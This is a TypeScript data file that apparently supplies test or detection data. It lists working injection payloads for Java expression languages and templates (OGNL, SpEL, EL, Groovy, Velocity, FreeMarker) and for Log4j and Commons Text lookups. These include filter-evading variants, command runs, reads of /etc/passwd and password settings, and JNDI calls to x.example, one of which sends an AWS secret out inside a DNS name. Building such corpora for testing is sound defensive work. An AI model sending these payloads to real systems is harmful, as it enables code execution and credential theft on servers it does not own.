// Expression languages and templates of Java, and lookups of its logs. Sources: published advisories of Struts, Confluence,
// Spring Cloud Function, Hibernate Validator, Unomi, Log4j, Commons Text; manuals of the languages.
import type { Family } from "../contract.ts"

export const JAVA: readonly Family[] = [
    {
        name: "ognl",
        rows: [
            [
                "header Content-Type",
                "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}.multipart/form-data",
                "starts a process",
            ],
            [
                "path",
                "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Out%22%2C%23a%29%29%7D/",
                "a command's output in a header",
            ],
            [
                "form",
                "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println(7*7)}",
                "writes into the answer",
            ],
            [
                "form",
                "\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027js\\u0027).eval(\\u0027java.lang.Runtime.getRuntime().exec(\\u0022id\\u0022)\\u0027)}+\\u0027",
                "escaped quotes close the string",
            ],
            [
                "query string",
                "('%5Cu0023context[%5C'xwork.MethodAccessor.denyMethodExecution%5C']%5Cu003dfalse')(bla)(bla)",
                "as a field's name",
            ],
            [
                "query string",
                "redirect:%24%7B%23req%3D%23context.get('co'%2B'm.open'%2B'symphony.xwo'%2B'rk2.disp'%2B'atcher.HttpSer'%2B'vletReq'%2B'uest')%2C%23req.getSession()%7D",
                "as a field's name, words in pieces",
            ],
            [
                "form",
                '%{(#i=#application["org.apache.tomcat.InstanceManager"]).(#b=#i.newInstance("freemarker.template.utility.Execute")).(#b.exec({"id"}))}',
                "an instance of a template's helper",
            ],
            [
                "query string",
                "method:%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS,%23a%3D%40java.lang.Runtime%40getRuntime().exec(%23parameters.cmd%5B0%5D),1?%23xx:%23request.toString&cmd=id",
                "as a field's name",
            ],
            ["query", "%{@java.lang.System@getProperty('user.dir')}", "a property of the machine"],
            ["query", '${#_memberAccess["allowStaticMethodAccess"]=true,@java.lang.Thread@sleep(9000)}', "waits"],
        ],
    },
    {
        name: "spel",
        rows: [
            [
                "header spring.cloud.function.routing-expression",
                "T(java.lang.Runtime).getRuntime().exec('id')",
                "runs a command",
            ],
            ["form", "#{T(java.lang.System).getenv()}", "the environment"],
            [
                "form",
                'new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()',
                "no braces",
            ],
            [
                "json",
                "#{''.getClass().forName('java.lang.Ru'+'ntime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Ru'+'ntime').getMethod('getRuntime').invoke(null),'id')}",
                "by reflection",
            ],
            [
                "form",
                "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))",
                "a command's output",
            ],
            ["query", "#{@environment.getProperty('spring.datasource.password')}", "a secret of a bean"],
            [
                "form",
                "*{T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))}",
                "reads a file",
            ],
            [
                "path",
                "/doc/__$%7Bnew%20java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(%22id%22).getInputStream()).next()%7D__::.x",
                "a fragment of Thymeleaf",
            ],
            ["query", "~{::__${T(java.lang.Thread).sleep(9000)}__}", "a fragment of Thymeleaf"],
            ["form", "<p th:text=\"${T(java.lang.System).getProperty('user.name')}\">", "an attribute of Thymeleaf"],
            [
                "json",
                "#{new String(T(java.util.Base64).getDecoder().decode('aWQ=')).length()}",
                "builds texts from base64",
            ],
        ],
    },
    {
        name: "el, mvel, groovy",
        rows: [
            ["form", '${pageContext.request.getSession().setAttribute("admin","1")}', "sets a session's value"],
            [
                "form",
                '#{request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
                "by the class loader",
            ],
            [
                "json",
                "${''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
                "in a validator's message",
            ],
            ["query", "${applicationScope}", "all of an application's values"],
            ["query", "${header['cookie']}", "a header of the request"],
            ["query", "${initParam.dbPassword}", "a parameter of the application"],
            [
                "body application/json",
                '{"size":1,"script_fields":{"x":{"script":"import java.util.*;import java.io.*;new Scanner(Runtime.getRuntime().exec(\\"id\\").getInputStream()).useDelimiter(\\"\\\\\\\\A\\").next();"}}}',
                "a script for Elasticsearch",
            ],
            ["json", 'script::Runtime r = Runtime.getRuntime(); r.exec("id");', "MVEL of Unomi"],
            ["form", 'println "id".execute().text', "Groovy: runs a text"],
            ["form", "['sh','-c','id'].execute().waitFor()", "Groovy: runs a list"],
            [
                "form",
                '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")}) def x',
                "Groovy: at compile time",
            ],
            ["form", "new File('/etc/passwd').text", "Groovy: reads a file"],
            ["form", "${new GroovyShell().evaluate('\"id\".execute()')}", "a shell of Groovy"],
            [
                "form",
                "Jenkins.instance.pluginManager.uberClassLoader.loadClass('java.lang.Runtime').getRuntime().exec('id')",
                "a console's line",
            ],
            ["form", "$\\A{sys.class.forName('java.lang.Runtime')}", "a message's interpolation"],
        ],
    },
    {
        name: "velocity, freemarker",
        rows: [
            [
                "form",
                '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
                "by reflection",
            ],
            ["form", "#set($x='')##\n#set($rt=$x.class.forName('java.lang.Runtime'))", "a class by name"],
            [
                "query",
                '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id").waitFor()',
                "by a tool of Velocity",
            ],
            ["form", '#include("/WEB-INF/web.xml")', "a file of the application"],
            ["form", "#parse('../../../../etc/passwd')", "a file of the machine"],
            ["form", "#evaluate($request.getParameter('x'))", "text of the request as template"],
            ["form", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "runs a command"],
            [
                "form",
                '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}',
                "constructs a process",
            ],
            [
                "form",
                "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
                "directives in square brackets",
            ],
            [
                "json",
                "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
                "reads a file by the object at hand",
            ],
            [
                "form",
                '<#assign cl=article.class.protectionDomain.classLoader><#assign owc=cl.loadClass("freemarker.template.ObjectWrapper")>',
                "the class loader of an object",
            ],
            ["form", "<#list .data_model?keys as k>${k}</#list>", "all names of the model"],
            [
                "form",
                "<@\"[#assign x='freemarker.template.utility.Execute'?new()]${x('id')}\"?interpret/>",
                "a text interpreted",
            ],
            ["form", "${'id'?eval}${\"java.lang.System\"?api.class}", "evaluates a text"],
        ],
    },
    {
        name: "lookups",
        rows: [
            ["header User-Agent", "${jndi:ldap://x.example/a}", "plain"],
            ["query", "${${lower:j}ndi:${lower:l}dap://x.example/a}", "letters by lookups"],
            [
                "header X-Api-Version",
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}",
                "letters by defaults",
            ],
            ["form", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}", "letters by empty names"],
            ["json", "${jnd${upper:\u0131}:ldap://x.example/a}", "a letter that becomes another"],
            ["form", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example}", "a secret as a host's name"],
            ["query", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", "letters by a date"],
            ["cookie", "${${sys:x:-${${lower:j}}}ndi:iiop://x.example/a}", "three deep"],
            ["query string", "q=%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D", "encoded twice"],
            ["json", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "Commons Text: a script"],
            ["json", "${url:UTF-8:http://x.example/}", "Commons Text: an address"],
            ["json", "${dns:address|x.example}", "Commons Text: a name"],
            ["json", "${file:UTF-8:/etc/passwd}", "Commons Text: a file"],
            ["form", "${bundle:application:spring.datasource.password}", "a secret of the settings"],
            ["header Referer", "https://www.example.jp/?q=${ctx:${jndi:ldap://x.example/a}}", "in an address"],
            ["form", "${env:DB_PASSWORD:-x}", "a secret of the environment"],
        ],
    },
]
